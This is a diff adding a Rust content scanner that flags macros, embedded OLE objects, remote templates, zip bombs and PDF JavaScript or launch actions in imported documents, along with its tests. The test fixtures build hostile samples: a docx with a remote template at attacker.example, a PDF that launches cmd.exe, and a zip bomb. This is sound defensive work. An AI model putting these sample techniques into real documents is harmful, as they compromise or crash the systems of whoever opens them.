@@ -0,0 +1,625 @@
+// src-tauri/src/filesystem/security/content_scanner.rs
+// Active content scanning for macros, scripts and embedded payloads in imported documents
+
+use anyhow::{Context, Result};
+use once_cell::sync::Lazy;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::fs::File;
+use std::io::{self, Read};
+use std::path::Path;
+use zip::ZipArchive;
+
+/// Relationship parts larger than this are only partly scanned
+const MAX_RELS_PART_SIZE: u64 = 1024 * 1024;
+
+/// PDFs larger than this are only searched byte by byte, up to this size
+const MAX_PDF_SCAN_SIZE: u64 = 64 * 1024 * 1024;
+
+/// PDF names that run scripts or programs
+const PDF_SCRIPT_NAMES: &[&str] = &["JavaScript", "JS"];
+const PDF_LAUNCH_NAMES: &[&str] = &["Launch"];
+
+static RELATIONSHIP: Lazy<Regex> = Lazy::new(|| Regex::new(r"<Relationship\b[^>]*>").unwrap());
+static XML_ATTRIBUTE: Lazy<Regex> = Lazy::new(|| Regex::new(r#"(\w+)\s*=\s*"([^"]*)""#).unwrap());
+
+/// Kinds of active or hidden content the scanner flags
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ContentThreatKind {
+    /// VBA project inside an Office document
+    VbaMacro,
+    /// JavaScript in a PDF
+    PdfJavaScript,
+    /// A PDF action that launches an external program or file
+    PdfLaunchAction,
+    /// A relationship pointing outside the document, e.g. a remote template
+    ExternalRelationship,
+    /// An OLE object embedded in an Office document
+    EmbeddedOleObject,
+    /// An archive that expands far beyond its size on disk
+    ZipBomb,
+}
+
+/// One piece of suspicious content in a file
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ContentFinding {
+    pub kind: ContentThreatKind,
+    /// Archive entry or PDF object the finding was made in
+    pub location: String,
+    pub details: String,
+}
+
+/// Findings from scanning one file
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ContentScanResult {
+    /// Container format that was scanned, `zip` or `pdf`
+    pub scanned_format: Option<String>,
+    pub findings: Vec<ContentFinding>,
+}
+
+impl ContentScanResult {
+    pub fn has_threats(&self) -> bool {
+        !self.findings.is_empty()
+    }
+
+    /// One line per finding, for logs and error messages
+    pub fn summary(&self) -> Vec<String> {
+        self.findings
+            .iter()
+            .map(|finding| format!("{} ({})", finding.details, finding.location))
+            .collect()
+    }
+}
+
+/// Limits that mark an archive as a zip bomb
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ContentScannerConfig {
+    /// Highest allowed uncompressed-to-compressed size ratio
+    pub max_compression_ratio: u64,
+    /// Entries that expand to less than this are not judged by their ratio;
+    /// Office XML full of repeated markup routinely compresses a few hundred times
+    pub min_ratio_check_size: u64,
+    pub max_archive_entries: usize,
+    pub max_uncompressed_size: u64,
+}
+
+impl Default for ContentScannerConfig {
+    fn default() -> Self {
+        Self {
+            max_compression_ratio: 500,
+            min_ratio_check_size: 10 * 1024 * 1024, // 10MB
+            max_archive_entries: 10_000,
+            max_uncompressed_size: 2 * 1024 * 1024 * 1024, // 2GB
+        }
+    }
+}
+
+/// Scans documents for active content that header checks cannot see
+#[derive(Debug, Clone)]
+pub struct ContentScanner {
+    config: ContentScannerConfig,
+}
+
+impl Default for ContentScanner {
+    fn default() -> Self {
+        Self::new(ContentScannerConfig::default())
+    }
+}
+
+impl ContentScanner {
+    pub fn new(config: ContentScannerConfig) -> Self {
+        Self { config }
+    }
+
+    /// Scan a file, choosing the checks from its contents rather than its extension
+    pub fn scan_file(&self, path: &Path) -> Result<ContentScanResult> {
+        let mut header = [0u8; 1024];
+        let bytes_read = File::open(path)
+            .with_context(|| format!("Failed to open {}", path.display()))?
+            .read(&mut header)?;
+        let header = &header[..bytes_read];
+
+        if header.starts_with(b"PK\x03\x04") {
+            self.scan_zip(path)
+        } else if header.windows(5).any(|window| window == b"%PDF-") {
+            scan_pdf(path)
+        } else {
+            Ok(ContentScanResult::default())
+        }
+    }
+
+    /// Scan an Office document or other ZIP archive
+    pub fn scan_zip(&self, path: &Path) -> Result<ContentScanResult> {
+        let mut result = ContentScanResult {
+            scanned_format: Some("zip".to_string()),
+            findings: Vec::new(),
+        };
+        let file =
+            File::open(path).with_context(|| format!("Failed to open {}", path.display()))?;
+        let mut archive = ZipArchive::new(file).context("Failed to read ZIP archive")?;
+
+        if archive.len() > self.config.max_archive_entries {
+            result.findings.push(ContentFinding {
+                kind: ContentThreatKind::ZipBomb,
+                location: "archive".to_string(),
+                details: format!(
+                    "Archive has {} entries, more than the allowed {}",
+                    archive.len(),
+                    self.config.max_archive_entries
+                ),
+            });
+            return Ok(result);
+        }
+
+        let mut total_size = 0u64;
+        let mut total_compressed = 0u64;
+        let mut rels_parts = Vec::new();
+        for index in 0..archive.len() {
+            let mut entry = archive.by_index(index)?;
+            let name = entry.name().to_string();
+            let lower = name.to_lowercase();
+
+            if lower.ends_with("vbaproject.bin") {
+                result.findings.push(ContentFinding {
+                    kind: ContentThreatKind::VbaMacro,
+                    location: name.clone(),
+                    details: "Document contains a VBA macro project".to_string(),
+                });
+            } else if is_ole_object(&lower) {
+                result.findings.push(ContentFinding {
+                    kind: ContentThreatKind::EmbeddedOleObject,
+                    location: name.clone(),
+                    details: "Document contains an embedded OLE object".to_string(),
+                });
+            }
+
+            if lower.ends_with(".rels") {
+                rels_parts.push(index);
+            }
+
+            // Headers can understate sizes, so measure what the entry really
+            // expands to, stopping one byte past the point it would be flagged
+            let compressed = entry.compressed_size();
+            let ratio_limit = compressed
+                .max(1)
+                .saturating_mul(self.config.max_compression_ratio)
+                .max(self.config.min_ratio_check_size);
+            let budget = self.config.max_uncompressed_size.saturating_sub(total_size);
+            let size = expanded_size(&mut entry, ratio_limit.min(budget).saturating_add(1));
+            total_size = total_size.saturating_add(size);
+            total_compressed = total_compressed.saturating_add(compressed);
+
+            if size > ratio_limit {
+                result.findings.push(ContentFinding {
+                    kind: ContentThreatKind::ZipBomb,
+                    location: name,
+                    details: format!(
+                        "Entry expands from {} to more than {} bytes",
+                        compressed, ratio_limit
+                    ),
+                });
+            }
+            if total_size > self.config.max_uncompressed_size {
+                break;
+            }
+        }
+
+        if total_size > self.config.max_uncompressed_size
+            || (total_size >= self.config.min_ratio_check_size
+                && total_size / total_compressed.max(1) > self.config.max_compression_ratio)
+        {
+            result.findings.push(ContentFinding {
+                kind: ContentThreatKind::ZipBomb,
+                location: "archive".to_string(),
+                details: format!(
+                    "Archive expands from {} to at least {} bytes",
+                    total_compressed, total_size
+                ),
+            });
+        }
+
+        for index in rels_parts {
+            let mut entry = archive.by_index(index)?;
+            let name = entry.name().to_string();
+            let mut content = String::new();
+            // Headers can understate sizes, so never read more than the limit
+            if (&mut entry)
+                .take(MAX_RELS_PART_SIZE)
+                .read_to_string(&mut content)
+                .is_err()
+            {
+                continue;
+            }
+            result
+                .findings
+                .extend(external_relationships(&content).into_iter().map(
+                    |(relationship_type, target)| ContentFinding {
+                        kind: ContentThreatKind::ExternalRelationship,
+                        location: name.clone(),
+                        details: format!("External {} target: {}", relationship_type, target),
+                    },
+                ));
+        }
+
+        Ok(result)
+    }
+}
+
+/// Scan a PDF for scripts and launch actions
+///
+/// Objects are inspected through the parsed document so names hidden in
+/// compressed object streams are found; only objects carrying a flagged name
+/// are kept while parsing. PDFs over [`MAX_PDF_SCAN_SIZE`] or that cannot be
+/// parsed have their raw bytes searched instead, up to that size.
+pub fn scan_pdf(path: &Path) -> Result<ContentScanResult> {
+    let mut result = ContentScanResult {
+        scanned_format: Some("pdf".to_string()),
+        findings: Vec::new(),
+    };
+
+    let size = std::fs::metadata(path)
+        .with_context(|| format!("Failed to read metadata for {}", path.display()))?
+        .len();
+    let parsed = if size <= MAX_PDF_SCAN_SIZE {
+        lopdf::Document::load_filtered(path, keep_flagged_pdf_object)
+            .map_err(|e| tracing::debug!("Falling back to a raw scan of {}: {}", path.display(), e))
+            .ok()
+    } else {
+        tracing::warn!(
+            "Only the first {} bytes of {} ({} bytes) are scanned",
+            MAX_PDF_SCAN_SIZE,
+            path.display(),
+            size
+        );
+        None
+    };
+
+    match parsed {
+        Some(document) => {
+            for ((number, generation), object) in &document.objects {
+                let mut names = Vec::new();
+                collect_pdf_names(object, &mut names);
+                let location = format!("object {} {}", number, generation);
+                push_pdf_findings(&mut result, names, &location);
+            }
+        }
+        None => {
+            let mut bytes = Vec::new();
+            File::open(path)
+                .and_then(|file| file.take(MAX_PDF_SCAN_SIZE).read_to_end(&mut bytes))
+                .with_context(|| format!("Failed to read {}", path.display()))?;
+            push_pdf_findings(&mut result, pdf_names(&bytes), "raw content");
+        }
+    }
+
+    Ok(result)
+}
+
+/// Parse filter that drops every object without a flagged name
+///
+/// Object streams are kept so the objects packed inside them are filtered too.
+fn keep_flagged_pdf_object(
+    id: (u32, u16),
+    object: &mut lopdf::Object,
+) -> Option<((u32, u16), lopdf::Object)> {
+    if let lopdf::Object::Stream(stream) = object {
+        if stream.dict.type_is(b"ObjStm") {
+            return Some((id, object.clone()));
+        }
+    }
+    let mut names = Vec::new();
+    collect_pdf_names(object, &mut names);
+    names
+        .iter()
+        .any(|name| is_flagged_pdf_name(name))
+        .then(|| (id, object.clone()))
+}
+
+fn is_flagged_pdf_name(name: &str) -> bool {
+    PDF_SCRIPT_NAMES.contains(&name) || PDF_LAUNCH_NAMES.contains(&name)
+}
+
+/// Bytes an archive entry decompresses to, reading no more than `limit`
+///
+/// A corrupt entry counts as the bytes read before the error.
+fn expanded_size(entry: impl Read, limit: u64) -> u64 {
+    let mut reader = entry.take(limit);
+    let mut buffer = [0u8; 64 * 1024];
+    let mut size = 0u64;
+    loop {
+        match reader.read(&mut buffer) {
+            Ok(0) => break,
+            Ok(read) => size += read as u64,
+            Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
+            Err(e) => {
+                tracing::debug!("Stopped measuring a corrupt archive entry: {}", e);
+                break;
+            }
+        }
+    }
+    size
+}
+
+fn push_pdf_findings(
+    result: &mut ContentScanResult,
+    names: impl IntoIterator<Item = String>,
+    location: &str,
+) {
+    for name in names {
+        let (kind, details) = if PDF_SCRIPT_NAMES.contains(&name.as_str()) {
+            (ContentThreatKind::PdfJavaScript, "PDF contains JavaScript")
+        } else if PDF_LAUNCH_NAMES.contains(&name.as_str()) {
+            (
+                ContentThreatKind::PdfLaunchAction,
+                "PDF contains a launch action",
+            )
+        } else {
+            continue;
+        };
+        let duplicate = result
+            .findings
+            .iter()
+            .any(|finding| finding.kind == kind && finding.location == location);
+        if !duplicate {
+            result.findings.push(ContentFinding {
+                kind,
+                location: location.to_string(),
+                details: details.to_string(),
+            });
+        }
+    }
+}
+
+/// Dictionary keys and name values in a PDF object, including nested ones
+fn collect_pdf_names(object: &lopdf::Object, names: &mut Vec<String>) {
+    match object {
+        lopdf::Object::Name(name) => names.push(String::from_utf8_lossy(name).to_string()),
+        lopdf::Object::Array(items) => {
+            for item in items {
+                collect_pdf_names(item, names);
+            }
+        }
+        lopdf::Object::Dictionary(dictionary) => collect_dictionary_names(dictionary, names),
+        lopdf::Object::Stream(stream) => collect_dictionary_names(&stream.dict, names),
+        _ => {}
+    }
+}
+
+fn collect_dictionary_names(dictionary: &lopdf::Dictionary, names: &mut Vec<String>) {
+    for (key, value) in dictionary.iter() {
+        names.push(String::from_utf8_lossy(key).to_string());
+        collect_pdf_names(value, names);
+    }
+}
+
+/// Every name token in raw PDF bytes, with `#xx` escapes decoded
+fn pdf_names(bytes: &[u8]) -> Vec<String> {
+    let is_delimiter = |byte: u8| byte.is_ascii_whitespace() || b"()<>[]{}/%".contains(&byte);
+    let mut names = Vec::new();
+    let mut position = 0;
+    while position < bytes.len() {
+        if bytes[position] != b'/' {
+            position += 1;
+            continue;
+        }
+        position += 1;
+        let mut name = Vec::new();
+        while position < bytes.len() && !is_delimiter(bytes[position]) {
+            let escaped = (bytes[position] == b'#' && position + 2 < bytes.len())
+                .then(|| std::str::from_utf8(&bytes[position + 1..position + 3]).ok())
+                .flatten()
+                .and_then(|hex| u8::from_str_radix(hex, 16).ok());
+            match escaped {
+                Some(byte) => {
+                    name.push(byte);
+                    position += 3;
+                }
+                None => {
+                    name.push(bytes[position]);
+                    position += 1;
+                }
+            }
+        }
+        names.push(String::from_utf8_lossy(&name).to_string());
+    }
+    names
+}
+
+/// OLE objects embedded in Office documents live under `embeddings/` as `.bin` parts
+fn is_ole_object(lower_name: &str) -> bool {
+    let file_name = lower_name.rsplit('/').next().unwrap_or(lower_name);
+    (lower_name.contains("/embeddings/") && file_name.ends_with(".bin"))
+        || file_name.starts_with("oleobject")
+}
+
+/// Relationship types and targets of external relationships other than hyperlinks
+fn external_relationships(rels: &str) -> Vec<(String, String)> {
+    RELATIONSHIP
+        .find_iter(rels)
+        .filter_map(|relationship| {
+            let mut relationship_type = None;
+            let mut target = None;
+            let mut external = false;
+            for attribute in XML_ATTRIBUTE.captures_iter(relationship.as_str()) {
+                match &attribute[1] {
+                    "Type" => relationship_type = Some(attribute[2].to_string()),
+                    "Target" => target = Some(attribute[2].to_string()),
+                    "TargetMode" => external = attribute[2].eq_ignore_ascii_case("external"),
+                    _ => {}
+                }
+            }
+            let relationship_type = relationship_type?
+                .rsplit('/')
+                .next()
+                .unwrap_or_default()
+                .to_string();
+            (external && relationship_type != "hyperlink")
+                .then(|| (relationship_type, target.unwrap_or_default()))
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::io::Write;
+    use tempfile::TempDir;
+    use zip::write::SimpleFileOptions;
+    use zip::ZipWriter;
+
+    fn write_zip(path: &Path, entries: &[(&str, &[u8])]) {
+        let mut zip = ZipWriter::new(File::create(path).unwrap());
+        for (name, content) in entries {
+            zip.start_file(*name, SimpleFileOptions::default()).unwrap();
+            zip.write_all(content).unwrap();
+        }
+        zip.finish().unwrap();
+    }
+
+    #[test]
+    fn test_office_documents_with_active_content() {
+        let temp_dir = TempDir::new().unwrap();
+        let scanner = ContentScanner::default();
+
+        let clean = temp_dir.path().join("clean.docx");
+        write_zip(
+            &clean,
+            &[
+                ("[Content_Types].xml", b"<Types/>"),
+                ("word/document.xml", b"<w:document/>"),
+                (
+                    "word/_rels/document.xml.rels",
+                    br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>"#,
+                ),
+            ],
+        );
+        assert!(!scanner.scan_file(&clean).unwrap().has_threats());
+
+        let hostile = temp_dir.path().join("invoice.docx");
+        write_zip(
+            &hostile,
+            &[
+                ("word/document.xml", b"<w:document/>"),
+                ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"),
+                ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0ole"),
+                (
+                    "word/_rels/settings.xml.rels",
+                    br#"<Relationships><Relationship TargetMode="External" Id="rId1" Target="http://attacker.example/t.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>"#,
+                ),
+            ],
+        );
+        let result = scanner.scan_file(&hostile).unwrap();
+        let kinds: Vec<_> = result.findings.iter().map(|f| f.kind).collect();
+        assert!(kinds.contains(&ContentThreatKind::VbaMacro));
+        assert!(kinds.contains(&ContentThreatKind::EmbeddedOleObject));
+        let template = result
+            .findings
+            .iter()
+            .find(|f| f.kind == ContentThreatKind::ExternalRelationship)
+            .unwrap();
+        assert!(template.details.contains("attachedTemplate"));
+        assert!(template.details.contains("attacker.example"));
+    }
+
+    #[test]
+    fn test_zip_bombs() {
+        let temp_dir = TempDir::new().unwrap();
+
+        let expanding = temp_dir.path().join("expanding.xlsx");
+        let zeros = vec![0u8; 20 * 1024 * 1024];
+        write_zip(&expanding, &[("xl/workbook.xml", zeros.as_slice())]);
+        let result = ContentScanner::default().scan_file(&expanding).unwrap();
+        assert!(result
+            .findings
+            .iter()
+            .any(|f| f.kind == ContentThreatKind::ZipBomb));
+
+        let crowded = temp_dir.path().join("crowded.pptx");
+        let names: Vec<String> = (0..20).map(|i| format!("ppt/slide{}.xml", i)).collect();
+        let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
+        write_zip(&crowded, &entries);
+        let scanner = ContentScanner::new(ContentScannerConfig {
+            max_archive_entries: 10,
+            ..Default::default()
+        });
+        assert_eq!(
+            scanner.scan_file(&crowded).unwrap().findings[0].kind,
+            ContentThreatKind::ZipBomb
+        );
+    }
+
+    #[test]
+    fn test_large_office_tables_are_not_zip_bombs() {
+        let temp_dir = TempDir::new().unwrap();
+
+        // A long Word table: the same row markup repeated compresses a couple
+        // of hundred times, which the first ratio limit reported as a bomb
+        let row = r#"<w:tr><w:tc><w:tcPr><w:tcW w:w="2310" w:type="dxa"/></w:tcPr><w:p><w:pPr><w:pStyle w:val="TableText"/></w:pPr><w:r><w:rPr><w:lang w:val="en-GB"/></w:rPr><w:t>Quarterly total</w:t></w:r></w:p></w:tc><w:tc><w:tcPr><w:tcW w:w="2310" w:type="dxa"/></w:tcPr><w:p><w:pPr><w:pStyle w:val="TableText"/><w:jc w:val="right"/></w:pPr><w:r><w:rPr><w:lang w:val="en-GB"/></w:rPr><w:t>0.00</w:t></w:r></w:p></w:tc></w:tr>"#;
+        let document = format!(
+            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:tbl>{}</w:tbl></w:body></w:document>"#,
+            row.repeat(30_000)
+        );
+        let report = temp_dir.path().join("quarterly.docx");
+        write_zip(
+            &report,
+            &[
+                (
+                    "[Content_Types].xml",
+                    br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#,
+                ),
+                (
+                    "_rels/.rels",
+                    br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>"#,
+                ),
+                ("word/document.xml", document.as_bytes()),
+                (
+                    "word/_rels/document.xml.rels",
+                    br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/finance" TargetMode="External"/></Relationships>"#,
+                ),
+                (
+                    "word/styles.xml",
+                    br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="TableText"><w:name w:val="Table Text"/></w:style></w:styles>"#,
+                ),
+                (
+                    "docProps/core.xml",
+                    br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Quarterly report</dc:title></cp:coreProperties>"#,
+                ),
+            ],
+        );
+
+        let mut archive = ZipArchive::new(File::open(&report).unwrap()).unwrap();
+        let entry = archive.by_name("word/document.xml").unwrap();
+        assert!(entry.size() > 10 * 1024 * 1024);
+        assert!(entry.size() / entry.compressed_size() > 100);
+
+        let result = ContentScanner::default().scan_file(&report).unwrap();
+        assert!(!result.has_threats(), "{:?}", result.summary());
+    }
+
+    #[test]
+    fn test_pdf_scripts_and_launch_actions() {
+        let temp_dir = TempDir::new().unwrap();
+        let scanner = ContentScanner::default();
+
+        let clean = temp_dir.path().join("clean.pdf");
+        std::fs::write(
+            &clean,
+            b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF",
+        )
+        .unwrap();
+        assert!(!scanner.scan_file(&clean).unwrap().has_threats());
+
+        // Escaped names are decoded before matching
+        let scripted = temp_dir.path().join("scripted.pdf");
+        std::fs::write(
+            &scripted,
+            b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> >> endobj\n2 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%%EOF",
+        )
+        .unwrap();
+        let result = scanner.scan_file(&scripted).unwrap();
+        let kinds: Vec<_> = result.findings.iter().map(|f| f.kind).collect();
+        assert!(kinds.contains(&ContentThreatKind::PdfJavaScript));
+        assert!(kinds.contains(&ContentThreatKind::PdfLaunchAction));
+    }
+}